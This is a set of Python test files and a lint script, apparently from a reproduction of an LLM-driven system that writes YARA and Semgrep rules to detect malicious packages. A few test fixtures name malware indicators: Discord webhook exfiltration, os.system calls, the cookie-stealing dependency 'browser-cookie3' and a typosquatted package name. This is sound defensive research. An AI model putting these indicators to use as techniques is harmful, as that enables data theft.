        events: list[PublishEvent] = []
        registry.subscribe(events.append)
        registry.publish(yara=_rules("a"))
        registry.publish(yara=_rules("b"), activate=False)
        registry.activate(2)
        assert [e.namespace for e in events] == ["acme"] * 3
        assert [e.kind for e in events] == ["publish", "publish", "activate"]

    def test_default_namespace_is_empty(self):
        registry = RulesetRegistry()
        events: list[PublishEvent] = []
        registry.subscribe(events.append)
        registry.publish(yara=_rules())
        assert events[0].namespace == ""


class TestRetirementRecords:
    def _registry_with_two_versions(self) -> RulesetRegistry:
        registry = RulesetRegistry(namespace="stamp")
        registry.publish(yara=_rules("old", "old_needle"), label="first")
        registry.publish(yara=_rules("new", "new_needle"), label="second")
        return registry

    def test_retire_stamps_a_tombstone(self):
        registry = self._registry_with_two_versions()
        record = registry.retire(1, reason="decayed", retired_by="arena")
        assert record is not None
        assert (record.version, record.label) == (1, "first")
        assert record.reason == "decayed"
        assert record.retired_by == "arena"
        assert record.rule_count == 1
        assert registry.retirements() == [record]
        assert registry.versions() == [2]

    def test_tombstone_surfaces_in_describe(self):
        registry = self._registry_with_two_versions()
        registry.retire(1, reason="decayed", retired_by="arena")
        description = registry.describe()
        assert "x v1 (first) retired by arena: decayed" in description

    def test_active_version_still_protected(self):
        registry = self._registry_with_two_versions()
        try:
            registry.retire(2, reason="nope")
        except ValueError:
            pass
        else:
            raise AssertionError("retiring the active version must raise")
        assert registry.retirements() == []

    def test_unknown_version_stays_a_silent_noop(self):
        registry = self._registry_with_two_versions()
        assert registry.retire(99, reason="ghost") is None
        assert registry.retirements() == []

    def test_bare_retire_keeps_working(self):
        registry = self._registry_with_two_versions()
        record = registry.retire(1)
        assert record.reason == "" and record.retired_by == ""
        assert record.describe() == "v1 (first) retired"
