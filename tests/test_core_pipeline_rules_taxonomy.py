"""Tests for the end-to-end pipeline, the rule containers and the taxonomy classifier."""

import pytest

from repro.categories import CATEGORIES
from repro.core import RuleLLM, RuleLLMConfig
from repro.core.rules import GeneratedRule, GeneratedRuleSet, combine
from repro.core.taxonomy import RuleTaxonomyClassifier, classify_rule
from repro.evaluation.detector import RuleScanner


# -- GeneratedRule / GeneratedRuleSet ------------------------------------------------

def _yara_rule(name="MAL_x", text=None):
    return GeneratedRule(format="yara", name=name,
                         text=text or f'rule {name} {{ strings: $a = "discord.com/api/webhooks" condition: $a }}')


def _semgrep_rule(rule_id="detect-x"):
    text = (f"rules:\n  - id: {rule_id}\n    languages: [python]\n    severity: WARNING\n"
            f"    message: m\n    pattern: os.system($C)\n")
    return GeneratedRule(format="semgrep", name=rule_id, text=text)


def test_generated_rule_validation_and_filenames():
    with pytest.raises(ValueError):
        GeneratedRule(format="snort", name="x", text="...")
    assert _yara_rule().file_name.endswith(".yar")
    assert _semgrep_rule().file_name.endswith(".yaml")


def test_rule_set_counts_and_accessors():
    rs = GeneratedRuleSet()
    rs.add(_yara_rule("MAL_a"))
    rs.add(_semgrep_rule("detect-a"))
    rs.reject(_yara_rule("MAL_broken"))
    counts = rs.counts()
    assert counts == {"total": 2, "yara": 1, "semgrep": 1, "rejected": 1}


def test_rule_set_compiles_with_duplicate_names():
    rs = GeneratedRuleSet()
    rs.add(_yara_rule("MAL_dup"))
    rs.add(_yara_rule("MAL_dup"))
    compiled = rs.compile_yara()
    assert len(compiled) == 2
    assert len(set(compiled.rule_names())) == 2


def test_rule_set_save_and_load_roundtrip(tmp_path):
    rs = GeneratedRuleSet()
    rs.add(_yara_rule("MAL_save"))
    rs.add(_semgrep_rule("detect-save"))
    rs.save(tmp_path)
    loaded = GeneratedRuleSet.load(tmp_path)
    assert loaded.counts()["yara"] == 1
    assert loaded.counts()["semgrep"] == 1
    assert len(loaded.compile_yara()) == 1
    assert len(loaded.compile_semgrep()) == 1


def test_combine_rule_sets():
    a, b = GeneratedRuleSet(model="gpt-4o"), GeneratedRuleSet()
    a.add(_yara_rule("MAL_one"))
    b.add(_semgrep_rule("detect-two"))
    merged = combine([a, b])
    assert len(merged) == 2 and merged.model == "gpt-4o"


# -- taxonomy ---------------------------------------------------------------------------

def test_classify_network_rule():
    classification = classify_rule(_yara_rule())
    assert "Messaging Platform Abuse" in classification.subcategories


def test_classify_unknown_rule_falls_back_to_other():
    rule = GeneratedRule(format="yara", name="MAL_opaque",
                         text='rule MAL_opaque { strings: $a = "zzzqqqzzz" condition: $a }')
    classification = classify_rule(rule)
    assert classification.categories == ["Other Rules"]


def test_classifier_counts_and_overlap(generated_rules):
    classifier = RuleTaxonomyClassifier()
    counts = classifier.subcategory_counts(generated_rules.rules)
    assert counts, "expected at least one category"
    for category in counts:
        assert category in CATEGORIES
    matrix = classifier.category_overlap_matrix(generated_rules.rules)
    assert len(matrix) == len(CATEGORIES)
    # symmetric with an empty diagonal
    for i in range(len(matrix)):
        assert matrix[i][i] == 0
        for j in range(len(matrix)):
            assert matrix[i][j] == matrix[j][i]


def test_total_labels_at_least_total_rules(generated_rules):
    classifier = RuleTaxonomyClassifier()
    classifications = classifier.classify_all(generated_rules.rules)
    assert len(classifications) == len(generated_rules.rules)
    assert sum(len(c.labels) for c in classifications) >= len(generated_rules.rules)


# -- pipeline ------------------------------------------------------------------------------

def test_pipeline_generates_both_formats(generated_rules):
    counts = generated_rules.counts()
    assert counts["yara"] > 0
    assert counts["semgrep"] > 0
    assert generated_rules.model == "gpt-4o"


def test_pipeline_rules_all_compile(generated_rules):
    assert len(generated_rules.compile_yara()) == len(generated_rules.yara_rules)
    assert len(generated_rules.compile_semgrep()) == len(generated_rules.semgrep_rules)


def test_pipeline_detection_beats_chance(small_dataset, generated_rules):
    scanner = RuleScanner(yara_rules=generated_rules.compile_yara(),
                          semgrep_rules=generated_rules.compile_semgrep())
    metrics = scanner.evaluate(small_dataset.packages)
    assert metrics.recall >= 0.6
    assert metrics.precision >= 0.6
    assert metrics.f1 >= 0.65


def test_pipeline_empty_corpus():
    rules = RuleLLM(RuleLLMConfig.full()).generate_rules([])
    assert len(rules) == 0


def test_pipeline_run_info_populated(pipeline, generated_rules):
    info = pipeline.last_run
    assert info.package_count > 0
    assert info.cluster_count > 0
    assert info.refined_rule_count >= info.cluster_count
    assert info.alignment.total == info.refined_rule_count


def test_pipeline_group_generation(malware_packages):
    pipeline = RuleLLM(RuleLLMConfig.full())
    rules = pipeline.generate_rules_for_group(malware_packages[:2], cluster_id=7)
    assert len(rules) >= 1


def test_ablation_arm_produces_fewer_or_equal_valid_rules(malware_packages):
    full = RuleLLM(RuleLLMConfig.full()).generate_rules(malware_packages)
    alone = RuleLLM(RuleLLMConfig.llm_alone()).generate_rules(malware_packages)
    # without alignment, some broken rules are dropped instead of repaired
    assert len(alone.rejected) >= 0
    assert len(alone) <= len(full) + len(alone.rejected) + 5
