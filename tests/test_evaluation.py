"""Tests for the evaluation harness (metrics, detector, per-rule stats, curves, reporting)."""

import pytest

from repro.evaluation import (
    ConfusionMatrix,
    RuleScanner,
    classification_metrics,
    coverage_cdf,
    format_table,
    matched_rule_curve,
    per_rule_statistics,
    precision_histogram,
    render_histogram,
    render_series,
)
from repro.evaluation.detector import PackageDetection
from repro.evaluation.overlap import category_overlap
from repro.evaluation.reporting import percent


# -- metrics --------------------------------------------------------------------------

def test_confusion_matrix_basic_identities():
    matrix = ConfusionMatrix(true_positive=8, false_positive=2, true_negative=9, false_negative=1)
    assert matrix.total == 20
    assert matrix.accuracy == pytest.approx(0.85)
    assert matrix.precision == pytest.approx(0.8)
    assert matrix.recall == pytest.approx(8 / 9)
    expected_f1 = 2 * 0.8 * (8 / 9) / (0.8 + 8 / 9)
    assert matrix.f1 == pytest.approx(expected_f1)


def test_confusion_matrix_empty_is_zero():
    matrix = ConfusionMatrix()
    assert matrix.accuracy == matrix.precision == matrix.recall == matrix.f1 == 0.0


def test_confusion_matrix_record_and_merge():
    a = ConfusionMatrix()
    a.record(True, True)
    a.record(False, True)
    b = ConfusionMatrix()
    b.record(True, False)
    b.record(False, False)
    merged = a.merge(b)
    assert (merged.true_positive, merged.false_positive, merged.false_negative, merged.true_negative) == (1, 1, 1, 1)


def test_classification_metrics_validates_lengths():
    with pytest.raises(ValueError):
        classification_metrics([True], [True, False])


def test_classification_metrics_perfect_predictions():
    labels = [True, False, True, False]
    matrix = classification_metrics(labels, labels)
    assert matrix.f1 == 1.0 and matrix.accuracy == 1.0


# -- detector ---------------------------------------------------------------------------

def test_rule_scanner_requires_some_rules():
    with pytest.raises(ValueError):
        RuleScanner()


def test_detection_result_metrics_match_manual_count(detection_result, small_dataset):
    metrics = detection_result.metrics
    assert metrics.total == len(small_dataset.packages)
    malicious = sum(1 for pkg in small_dataset.packages if pkg.is_malicious)
    assert metrics.true_positive + metrics.false_negative == malicious


def test_detection_threshold_monotonicity(detection_result):
    recalls = [detection_result.confusion(threshold).recall for threshold in (1, 2, 3, 5)]
    assert recalls == sorted(recalls, reverse=True)


def test_rule_hits_mapping(detection_result):
    hits = detection_result.rule_hits()
    for rule, detections in hits.items():
        assert detections
        assert all(rule in d.matched_rules for d in detections)


def test_package_detection_predicted_threshold():
    detection = PackageDetection(package="x", actual_malicious=True, yara_rules=["a", "b"])
    assert detection.predicted(1) and detection.predicted(2) and not detection.predicted(3)


# -- per-rule statistics / histograms / cdf ------------------------------------------------

def test_per_rule_statistics_includes_silent_rules(detection_result, compiled_yara):
    stats = per_rule_statistics(detection_result, compiled_yara.rule_names())
    names = {entry.rule for entry in stats}
    assert set(compiled_yara.rule_names()).issubset(names)


def test_per_rule_precision_bounds(detection_result, compiled_yara):
    stats = per_rule_statistics(detection_result, compiled_yara.rule_names())
    for entry in stats:
        assert 0.0 <= entry.precision <= 1.0
        assert entry.coverage <= entry.total_matches


def test_precision_histogram_counts_consistent(detection_result, compiled_yara):
    stats = per_rule_statistics(detection_result, compiled_yara.rule_names())
    histogram = precision_histogram(stats)
    assert sum(histogram.counts) + histogram.zero_match_rules == len(stats)
    with pytest.raises(ValueError):
        precision_histogram(stats, bins=0)


def test_coverage_cdf_monotone(detection_result, compiled_yara):
    stats = per_rule_statistics(detection_result, compiled_yara.rule_names())
    cdf = coverage_cdf(stats)
    fractions = [fraction for _value, fraction in cdf.points]
    assert fractions == sorted(fractions)
    if cdf.points:
        assert fractions[-1] == pytest.approx(1.0)
    assert 0.0 <= cdf.fraction_below(10) <= 1.0


def test_matched_rule_curve_shape(detection_result):
    curve = matched_rule_curve(detection_result, max_threshold=5)
    assert curve.points
    assert curve.points[0].matched_rules == 1
    recalls = [point.recall for point in curve.points]
    assert recalls == sorted(recalls, reverse=True)
    assert 1 <= curve.best_threshold <= 5


def test_category_overlap_matrix_properties(generated_rules):
    overlap = category_overlap(generated_rules.rules)
    assert overlap.max_overlap >= 0
    pairs = overlap.most_overlapping_pairs(3)
    assert all(count > 0 for _a, _b, count in pairs)


# -- reporting -------------------------------------------------------------------------------

def test_format_table_alignment_and_validation():
    table = format_table(["name", "value"], [["a", 1], ["bbbb", 22]], title="T")
    lines = table.splitlines()
    assert lines[0] == "T"
    assert "name" in lines[1] and "value" in lines[1]
    with pytest.raises(ValueError):
        format_table(["one"], [["a", "b"]])


def test_render_histogram_and_series():
    histogram = render_histogram([("a", 2), ("b", 4)], title="H")
    assert "####" in histogram
    series = render_series([(1, 0.5), (2, 0.75)], title="S")
    assert "0.750" in series


def test_percent_formatting():
    assert percent(0.852) == "85.2%"


# -- variant experiment determinism ----------------------------------------------------

def test_variant_detection_experiment_is_seed_deterministic(malware_packages):
    """Same config + corpus => identical groups, seeds, variant counts and
    detection rates across independent runs (the arena replays depend on it)."""
    from repro.core import RuleLLMConfig
    from repro.evaluation.variants import variant_detection_experiment

    config = RuleLLMConfig.full(seed=20250424)
    runs = [
        variant_detection_experiment(
            malware_packages, config=config, seeds_per_group=2, max_groups=3
        )
        for _ in range(2)
    ]
    first, second = runs
    assert len(first.groups) == len(second.groups) > 0
    for left, right in zip(first.groups, second.groups):
        assert left.cluster_id == right.cluster_id
        assert left.seeds == right.seeds
        assert left.variants == right.variants
        assert left.rules_generated == right.rules_generated
        assert left.detected == right.detected
        assert left.detection_rate == right.detection_rate
    assert first.overall_detection_rate == second.overall_detection_rate
    assert first.average_detection_rate == second.average_detection_rate
