"""Shared fixtures.

Expensive artefacts (the synthetic corpus, one full pipeline run, compiled
rule sets) are built once per session and shared across test modules; tests
that need to mutate state build their own small instances instead.
"""

from __future__ import annotations

import pytest

from repro.core import RuleLLM, RuleLLMConfig
from repro.corpus import DatasetConfig, build_dataset
from repro.evaluation.detector import RuleScanner


@pytest.fixture(scope="session")
def small_dataset():
    """A small corpus (a few dozen packages) used across the suite."""
    return build_dataset(DatasetConfig.small())


@pytest.fixture(scope="session")
def malware_packages(small_dataset):
    return small_dataset.malware


@pytest.fixture(scope="session")
def benign_packages(small_dataset):
    return small_dataset.benign


@pytest.fixture(scope="session")
def pipeline():
    return RuleLLM(RuleLLMConfig.full())


@pytest.fixture(scope="session")
def generated_rules(pipeline, malware_packages):
    """One full RuleLLM run over the small corpus."""
    return pipeline.generate_rules(malware_packages)


@pytest.fixture(scope="session")
def compiled_yara(generated_rules):
    return generated_rules.compile_yara()


@pytest.fixture(scope="session")
def compiled_semgrep(generated_rules):
    return generated_rules.compile_semgrep()


@pytest.fixture(scope="session")
def detection_result(generated_rules, small_dataset):
    scanner = RuleScanner(
        yara_rules=generated_rules.compile_yara(),
        semgrep_rules=generated_rules.compile_semgrep(),
    )
    return scanner.scan(small_dataset.packages)
