"""Tests for metadata extraction and auditing (paper Section III-A / Table II)."""

from repro.corpus.package import Package, PackageFile, PackageMetadata
from repro.extraction.metadata import (
    extract_metadata,
    metadata_audit,
    parse_pkg_info,
    parse_registry_json,
    parse_setup_py,
)

PKG_INFO = """Metadata-Version: 2.1
Name: demo
Version: 3.1.4
Summary: a demo package
Home-page: https://example.org/demo
Author: Ada Lovelace
Author-email: ada@example.org
License: MIT
Classifier: Programming Language :: Python :: 3
Requires-Dist: requests

A longer description
spanning two lines.
"""

SETUP_PY = """from setuptools import setup
setup(
    name='demo',
    version='3.1.4',
    description='a demo package',
    author='Ada Lovelace',
    url='https://example.org/demo',
    license='MIT',
    install_requires=['requests', 'click'],
)
"""


def test_parse_pkg_info_fields():
    metadata = parse_pkg_info(PKG_INFO)
    assert metadata.name == "demo"
    assert metadata.version == "3.1.4"
    assert metadata.author == "Ada Lovelace"
    assert metadata.dependencies == ["requests"]
    assert "longer description" in metadata.description


def test_parse_setup_py_fields():
    metadata = parse_setup_py(SETUP_PY)
    assert metadata.name == "demo"
    assert metadata.version == "3.1.4"
    assert metadata.summary == "a demo package"
    assert metadata.dependencies == ["requests", "click"]


def test_parse_registry_json_accepts_pypi_shape():
    metadata = parse_registry_json('{"info": {"name": "demo", "version": "1.2.3", "summary": "s"}}')
    assert metadata.name == "demo"
    assert metadata.version == "1.2.3"


def test_extract_metadata_prefers_real_version_over_default():
    pkg = Package(
        name="demo", version="3.1.4",
        metadata=PackageMetadata(name="demo", version="3.1.4"),
        files=[PackageFile("PKG-INFO", PKG_INFO), PackageFile("setup.py", SETUP_PY)],
    )
    extracted = extract_metadata(pkg)
    assert extracted.version == "3.1.4"
    assert extracted.name == "demo"


def test_extract_metadata_falls_back_to_package_identity():
    pkg = Package(name="bare", version="9.9.9", metadata=PackageMetadata(name="", version=""),
                  files=[])
    extracted = extract_metadata(pkg)
    assert extracted.name == "bare"
    assert extracted.version == "9.9.9"


def test_audit_flags_empty_information():
    audit = metadata_audit(PackageMetadata(name="demo", version="1.0", summary="", description=""))
    assert audit.empty_information
    assert audit.suspicious


def test_audit_flags_release_zero():
    audit = metadata_audit(PackageMetadata(name="demo", version="0.0.0", summary="x",
                                           author="a", author_email="a@b.c"))
    assert audit.release_zero


def test_audit_flags_typosquatting():
    audit = metadata_audit(PackageMetadata(name="reqests", version="1.0", summary="x",
                                           author="a", author_email="a@b.c", description="y"))
    assert audit.typosquatting


def test_audit_flags_suspicious_dependencies():
    audit = metadata_audit(PackageMetadata(
        name="cleanpkg", version="1.0", summary="x", description="y",
        author="a", author_email="a@b.c",
        dependencies=["browser-cookie3", "requests"],
    ))
    assert audit.suspicious_dependencies == ["browser-cookie3"]


def test_audit_clean_metadata_not_suspicious():
    audit = metadata_audit(PackageMetadata(
        name="cleanpkg", version="2.4.1", summary="A useful library", description="Long docs",
        author="Ada", author_email="ada@example.org", dependencies=["requests", "numpy"],
    ))
    assert not audit.suspicious
    assert audit.findings() == []


def test_benign_corpus_metadata_mostly_clean(benign_packages):
    flagged = sum(metadata_audit(extract_metadata(pkg)).suspicious for pkg in benign_packages)
    assert flagged <= len(benign_packages) // 2
