"""Property-based tests (hypothesis) on core data structures and invariants."""

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from repro.corpus.package import Package, PackageFile, PackageMetadata
from repro.corpus.dedup import deduplicate
from repro.evaluation.metrics import classification_metrics
from repro.extraction.embedding import CodeEmbedder
from repro.extraction.snippets import split_segments
from repro.core.basic_units import split_basic_units
from repro.llm.tokenizer import count_tokens, truncate_to_tokens
from repro.utils.hashing import content_signature, stable_hash
from repro.utils.text import truncate_middle
from repro.yarax import compile_source, parse_source, serialize_rule
from repro.yarax.serializer import YaraRuleBuilder

_slow = settings(max_examples=40, suppress_health_check=[HealthCheck.too_slow], deadline=None)

yara_text = st.text(
    alphabet=st.characters(min_codepoint=32, max_codepoint=126),
    min_size=1, max_size=40,
).filter(lambda s: s.strip())


@_slow
@given(st.lists(yara_text, min_size=1, max_size=6), st.text(max_size=200))
def test_yara_builder_roundtrip_and_matching(values, haystack):
    """Any rule built from printable strings serialises, re-parses and compiles."""
    builder = YaraRuleBuilder("prop_rule").meta("description", "property test")
    for value in values:
        builder.text_string(value)
    builder.condition_any_of_them()
    source = builder.to_source()
    parsed = parse_source(source)[0]
    assert [s.value for s in parsed.strings] == values
    assert serialize_rule(parsed) == source
    compiled = compile_source(source)
    # soundness of matching: the rule fires iff one of its strings is present
    expected = any(value in haystack for value in values)
    assert bool(compiled.match(haystack)) == expected


@_slow
@given(st.lists(st.booleans(), min_size=1, max_size=60),
       st.lists(st.booleans(), min_size=1, max_size=60))
def test_metric_identities(labels, predictions):
    size = min(len(labels), len(predictions))
    labels, predictions = labels[:size], predictions[:size]
    matrix = classification_metrics(labels, predictions)
    assert matrix.total == size
    assert 0.0 <= matrix.accuracy <= 1.0
    assert 0.0 <= matrix.precision <= 1.0
    assert 0.0 <= matrix.recall <= 1.0
    lower = min(matrix.precision, matrix.recall) - 1e-9
    upper = max(matrix.precision, matrix.recall) + 1e-9
    assert (lower <= matrix.f1 <= upper) or matrix.f1 == 0.0


@_slow
@given(st.text(max_size=3000), st.integers(min_value=1, max_value=600))
def test_split_segments_partition_property(text, segment_length):
    segments = split_segments(text, segment_length)
    assert "".join(segments) == text
    assert all(segments[i] for i in range(len(segments)))


@_slow
@given(st.text(alphabet=st.characters(min_codepoint=32, max_codepoint=126), max_size=2000))
def test_basic_units_preserve_nonblank_lines(source):
    units = split_basic_units(source) if source.strip() else []
    joined = "\n".join(units)
    for line in source.splitlines():
        if line.strip():
            assert line.rstrip() in joined or line.strip() in joined


@_slow
@given(st.text(max_size=2000))
def test_embedder_is_deterministic_and_normalised(code):
    embedder = CodeEmbedder()
    import numpy as np
    a, b = embedder.embed(code), embedder.embed(code)
    assert np.allclose(a, b)
    norm = float(np.linalg.norm(a))
    assert norm == 0.0 or abs(norm - 1.0) < 1e-9


@_slow
@given(st.lists(st.sampled_from(["alpha", "beta", "gamma"]), min_size=1, max_size=20))
def test_dedup_idempotent_and_partitioning(payloads):
    packages = [
        Package(name=f"p{i}", version="1", metadata=PackageMetadata(name=f"p{i}"),
                files=[PackageFile("m/core.py", payload)], label="malware")
        for i, payload in enumerate(payloads)
    ]
    result = deduplicate(packages)
    assert len(result.unique) + len(result.duplicates) == len(packages)
    assert len(result.unique) == len(set(payloads))
    again = deduplicate(result.unique)
    assert not again.duplicates


@_slow
@given(st.text(max_size=4000), st.integers(min_value=1, max_value=500))
def test_tokenizer_truncation_respects_budget(text, budget):
    truncated, was_truncated = truncate_to_tokens(text, budget)
    assert count_tokens(truncated) <= budget
    assert truncated == text or was_truncated
    assert text.startswith(truncated)


@_slow
@given(st.text(max_size=500), st.integers(min_value=0, max_value=600))
def test_truncate_middle_never_exceeds_length(text, max_length):
    assert len(truncate_middle(text, max_length)) <= max(max_length, 0) or len(text) <= max_length


@_slow
@given(st.lists(st.text(max_size=30), max_size=10))
def test_content_signature_is_order_invariant(parts):
    import random
    shuffled = list(parts)
    random.Random(0).shuffle(shuffled)
    assert content_signature(parts) == content_signature(shuffled)


@_slow
@given(st.text(max_size=100), st.integers(min_value=1, max_value=256))
def test_stable_hash_bit_bound(text, bits):
    assert 0 <= stable_hash(text, bits) < (1 << bits)
