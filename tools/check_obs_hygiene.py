#!/usr/bin/env python
"""Observability hygiene lint: no new ad-hoc timing outside ``repro.obs``.

``repro.obs`` is the sanctioned home for timing — spans for wall-clock
attribution, histograms for aggregates.  Before it existed the codebase
grew ad-hoc ``time.perf_counter()`` pairs; those call sites are frozen in
``ALLOWED`` below (they feed report fields with committed golden outputs,
so ripping them out wholesale is a separate migration).  This lint fails
when

* a file under ``src/`` *not* in the allowlist calls ``perf_counter`` —
  new code must time through :mod:`repro.obs` spans/histograms instead, or
* an allowlisted file's call count *grows* — the freeze is a ceiling.

A count that shrinks only prints a reminder to tighten the allowlist.
Tests and ``benchmarks/`` are exempt: harnesses measure the system from
outside and must not route through the thing they are measuring.

Run from the repository root::

    python tools/check_obs_hygiene.py
"""

from __future__ import annotations

import re
import sys
from pathlib import Path

#: Frozen per-file ceilings for pre-obs ``perf_counter`` call sites.
ALLOWED = {
    "src/repro/api/orchestrator.py": 4,
    "src/repro/api/session.py": 2,
    "src/repro/arena/runner.py": 2,
    "src/repro/corpus/behaviors/obfuscation.py": 2,
    "src/repro/evaluation/detector.py": 31,
    "src/repro/scanserve/index.py": 4,
    "src/repro/scanserve/service.py": 6,
    "src/repro/store/recovery.py": 2,
}

#: The sanctioned implementation — exempt by definition.
EXEMPT_PREFIXES = ("src/repro/obs/",)

_PATTERN = re.compile(r"\bperf_counter\s*\(")


def check(root: Path) -> int:
    failures: list[str] = []
    notes: list[str] = []
    seen: set[str] = set()
    for path in sorted((root / "src").rglob("*.py")):
        rel = path.relative_to(root).as_posix()
        if any(rel.startswith(prefix) for prefix in EXEMPT_PREFIXES):
            continue
        count = len(_PATTERN.findall(path.read_text(encoding="utf-8")))
        if not count:
            continue
        seen.add(rel)
        ceiling = ALLOWED.get(rel)
        if ceiling is None:
            failures.append(
                f"{rel}: {count} perf_counter call(s) in a file outside the "
                f"allowlist — time through repro.obs spans/histograms instead"
            )
        elif count > ceiling:
            failures.append(
                f"{rel}: perf_counter calls grew {ceiling} -> {count} — new "
                f"timing must go through repro.obs"
            )
        elif count < ceiling:
            notes.append(
                f"{rel}: perf_counter calls shrank {ceiling} -> {count}; "
                f"tighten ALLOWED in {Path(__file__).name}"
            )
    for rel in sorted(set(ALLOWED) - seen):
        notes.append(
            f"{rel}: allowlisted but has no perf_counter calls (or no longer "
            f"exists); prune it from ALLOWED"
        )
    for note in notes:
        print(f"note: {note}")
    if failures:
        for failure in failures:
            print(f"FAIL: {failure}", file=sys.stderr)
        return 1
    checked = len(seen)
    print(f"obs hygiene OK: {checked} allowlisted file(s) at or under their "
          f"frozen perf_counter ceilings, no ad-hoc timing elsewhere")
    return 0


if __name__ == "__main__":
    raise SystemExit(check(Path(__file__).resolve().parent.parent))
